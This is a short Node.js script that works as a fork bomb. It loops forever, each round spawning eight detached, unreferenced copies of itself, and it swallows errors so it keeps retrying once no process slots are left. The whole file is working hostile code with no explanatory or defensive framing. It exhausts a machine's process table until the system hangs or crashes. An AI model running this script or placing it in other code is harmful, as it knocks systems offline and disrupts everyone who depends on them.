// Starts itself again and again, detached.
import { spawn } from "node:child_process";

for (;;) {
  for (let count = 0; count < 8; count++) {
    try {
      spawn(process.execPath, process.argv.slice(1), { detached: true, stdio: "ignore" })
        .on("error", () => {})
        .unref();
    } catch {
      // No more processes to be had; try again.
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 5));
}
